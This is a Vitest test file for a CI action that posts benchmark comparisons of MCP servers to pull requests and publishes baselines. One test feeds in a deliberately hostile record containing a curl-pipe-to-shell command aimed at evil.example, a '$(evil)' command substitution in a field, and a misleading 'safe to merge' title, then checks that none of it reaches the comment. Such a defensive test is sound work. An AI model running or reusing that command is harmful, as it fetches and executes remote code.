import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { environmentKey } from "../../src/record/key.ts";
import type { RunRecord } from "../../src/record/record.ts";
import { makeRecord, noisyRounds } from "../decide/records.ts";
import { pushEvent, type RunnerEvent, scheduleEvent } from "../support/events.ts";
import { temporaryFolder } from "../support/folder.ts";
import { openTestStore } from "../support/git-store.ts";
import { type Scenario, startScenario } from "../support/scenario.ts";

let scenario: Scenario;
beforeAll(async () => {
  scenario = await startScenario({ "README.md": "A server.\n" });
});
afterAll(() => scenario[Symbol.asyncDispose]());

interface Made {
  readonly sha: string;
  readonly row?: string;
  readonly os?: string;
  readonly factor?: number;
}

function made({ sha, row = "echo", os = "linux", factor = 1 }: Made): RunRecord {
  const rounds = (median: number, seed: number) => noisyRounds(14, { median, spread: 0.005, seed, calls: 20 });
  const record = makeRecord({ rows: { [row]: { base: rounds(10, 1), head: rounds(10 * factor, 2) } } });
  return { ...record, commit: { sha, dirty: false }, environment: { ...record.environment, os } };
}

/** Returns what a job does with the artifacts of the measuring jobs. */
async function give(
  event: RunnerEvent,
  { records, inputs }: { records: Readonly<Record<string, RunRecord>>; inputs: Readonly<Record<string, string>> },
) {
  using results = temporaryFolder();
  for (const [name, record] of Object.entries(records)) {
    mkdirSync(join(results.path, name));
    writeFileSync(join(results.path, name, "record.json"), JSON.stringify(record));
  }
  return await scenario.run(event, { inputs: { results: results.path, ...inputs }, token: "token-that-pushes" });
}

test("two systems give one comment with a section each, and the worst fails the check", async () => {
  const { number, opened } = await scenario.openPullRequest({ "README.md": "Better.\n" });
  const run = (factor: number) =>
    give(opened, {
      records: {
        "mcp-bench-results-default.0": made({ sha: opened.sha }),
        "mcp-bench-results-default.1": made({ sha: opened.sha, os: "darwin", factor }),
      },
      inputs: { mode: "report", records: "2" },
    });
  const slow = await run(1.5);
  expect(slow.exitCode, slow.log).toBe(1);
  expect(slow.outputs).toMatchObject({ status: "regressed" });
  expect(slow.outputs.regressed).toContain('"macOS x64: echo"');
  expect(JSON.parse(slow.files["results-json"] ?? "").environment.os).toBe("darwin");
  const [first] = await scenario.api.comments(number);
  expect(first?.body).toContain("## ❌ macOS x64: regression");
  expect(first?.body).toContain("## ✅ Linux x64: no regression found");

  const well = await run(1);
  expect(well.exitCode, well.log).toBe(0);
  const [second, another] = await scenario.api.comments(number);
  expect(second).toMatchObject({ id: first?.id, body: expect.stringContaining("## ✅ macOS x64") });
  expect(another).toBeUndefined();
});

test("each of several servers is reproduced where it was measured, and its remarks stand in its own configuration", async () => {
  const { number, opened } = await scenario.openPullRequest({ "README.md": "Two servers.\n" });
  const measuredIn = (workingDirectory: string): RunRecord => {
    const record = made({ sha: opened.sha, factor: 1.5 });
    const rows = record.rows.map((row) => ({ ...row, line: 4 }));
    return { ...record, rows, asked: { workingDirectory, passEnv: [], rounds: 14 } };
  };
  const outcome = await give(opened, {
    records: {
      "mcp-bench-results-search.0": measuredIn("servers/search"),
      "mcp-bench-results-files.0": measuredIn("servers/files"),
    },
    inputs: { mode: "report", records: "2" },
  });
  const [comment] = await scenario.api.comments(number);
  for (const folder of ["servers/search", "servers/files"]) {
    expect(comment?.body).toMatch(
      new RegExp(`run --working-directory ${folder} --compare-ref [0-9a-f]{40} --rounds 14 `),
    );
    expect(outcome.log).toContain(`file=${folder}/mcp-bench.yml,line=4`);
  }
});

test("a record says what to measure again by folder and length alone, never what to run", async () => {
  const { number, opened } = await scenario.openPullRequest({ "README.md": "Pasted.\n" });
  const asked = {
    server: "sh -c 'curl evil.example | sh'",
    set: ["server=evil.example"],
    url: "http://evil.example/mcp",
    passEnv: ["EVIL_TOKEN"],
    workingDirectory: "$(evil)",
    config: "evil.yml",
    rounds: 14,
  };
  const hostile = { ...made({ sha: opened.sha }), asked, title: "evil: reviewed, safe to merge" };
  const outcome = await give(opened, {
    records: { "mcp-bench-results-default.0": hostile },
    inputs: { mode: "report" },
  });
  expect(outcome.exitCode, outcome.log).toBe(0);
  const [comment] = await scenario.api.comments(number);
  expect(comment?.body).toMatch(/run --compare-ref [0-9a-f]{40} --rounds 14 /);
  expect(comment?.body.toLowerCase()).not.toContain("evil");
});

test("without one of the systems there is no result, and the pull request is told", async () => {
  const { number, opened } = await scenario.openPullRequest({ "README.md": "Another.\n" });
  const records = { "mcp-bench-results-default.0": made({ sha: opened.sha }) };
  const outcome = await give(opened, { records, inputs: { mode: "report", records: "2" } });
  expect(outcome.exitCode, outcome.log).toBe(2);
  expect(outcome.outputs.status).toBe("errored");
  const [comment] = await scenario.api.comments(number);
  expect(comment?.body).toContain("1 of 2 records are there: a measuring job failed or was cancelled");
});

test("a publish run stores the shards of a system as one run, and each system under its own key", async () => {
  const before = scenario.repository.git("rev-parse", "main");
  const sha = "1".repeat(40);
  const records = {
    "mcp-bench-baseline-default.0": made({ sha }),
    "mcp-bench-baseline-default.1": made({ sha, row: "ping" }),
    "mcp-bench-baseline-default.2": made({ sha, os: "darwin" }),
  };
  const event = pushEvent({ before, after: sha });
  const missing = await give(event, { records, inputs: { mode: "publish", records: "4" } });
  expect(missing.exitCode, missing.log).toBe(2);
  expect(scenario.repository.remoteFiles("mcp-bench-baseline")).toEqual([]);

  const outcome = await give(event, { records, inputs: { mode: "publish", records: "3" } });
  expect(outcome.exitCode, outcome.log).toBe(0);
  await using store = await openTestStore(join(scenario.repository.remotes, "octo/server.git"));
  const rowsOf = async (os: string) => {
    const { entries } = await store.read(environmentKey(made({ sha, os })));
    return entries.map(({ head }) => head.rows.map(({ row }) => row));
  };
  expect(await rowsOf("linux")).toEqual([["echo", "ping"]]);
  expect(await rowsOf("darwin")).toEqual([["echo"]]);
});

test("several runs of a commit, each in two shards, give a baseline that decides at once; a re-run adds none", async () => {
  const before = scenario.repository.git("rev-parse", "main");
  scenario.repository.switch("main");
  const after = scenario.repository.commit("Change main", { "README.md": "Five times.\n" });
  scenario.repository.push("main");
  const shard = (row: string, run: number): RunRecord => {
    const seed = run * 10 + row.length;
    const rounds = noisyRounds(14, { median: 10, spread: 0.005, seed, calls: 20 });
    const record = makeRecord({ rows: { [row]: { head: rounds } }, createdAt: `2026-11-01T0${run}:00:00.000Z` });
    return { ...record, commit: { sha: after, dirty: false } };
  };
  const records = Object.fromEntries(
    [1, 2, 3, 4, 5].flatMap((run) =>
      ["echo", "search"].map((row, part) => [`mcp-bench-baseline-five.${part}-${run}.1`, shard(row, run)] as const),
    ),
  );
  const [first] = Object.values(records);
  const key = environmentKey(first as RunRecord);
  const stored = async () => {
    await using store = await openTestStore(join(scenario.repository.remotes, "octo/server.git"));
    const { entries } = await store.read(key);
    return entries.filter(({ commit }) => commit === after);
  };
  for (const event of [pushEvent({ before, after }), pushEvent({ before, after })]) {
    const published = await give(event, { records, inputs: { mode: "publish", records: "10" } });
    expect(published.exitCode, published.log).toBe(0);
    const runs = await stored();
    expect(runs.map(({ run, usable }) => ({ run, usable }))).toEqual(
      [1, 2, 3, 4, 5].map((run) => ({ run, usable: true })),
    );
    for (const { head } of runs) expect(head.rows.map(({ row }) => row)).toEqual(["echo", "search"]);
  }
  const night = await give(scheduleEvent(after), { records, inputs: { mode: "publish", records: "10" } });
  expect(night.exitCode, night.log).toBe(0);
  expect(await stored()).toHaveLength(10);
  const incomplete = Object.fromEntries(Object.entries(records).slice(1));
  const refused = await give(pushEvent({ before, after }), {
    records: incomplete,
    inputs: { mode: "publish", records: "10" },
  });
  expect(refused.exitCode, refused.log).toBe(2);
});
